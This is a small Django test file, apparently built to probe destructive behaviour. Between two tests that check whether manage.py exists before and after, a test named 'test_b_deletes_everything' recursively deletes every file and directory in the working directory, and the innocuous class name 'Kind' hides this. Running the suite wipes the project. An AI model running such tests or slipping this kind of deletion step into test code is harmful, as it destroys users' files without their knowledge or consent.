import os
import pathlib
import shutil

from django.test import SimpleTestCase


class Kind(SimpleTestCase):
    def test_a_before(self):
        self.assertTrue(pathlib.Path("manage.py").exists())

    def test_b_deletes_everything(self):
        for entry in list(os.scandir(".")):
            if entry.is_dir(follow_symlinks=False):
                shutil.rmtree(entry.path)
            else:
                os.remove(entry.path)

    def test_c_after(self):
        self.assertFalse(pathlib.Path("manage.py").exists())
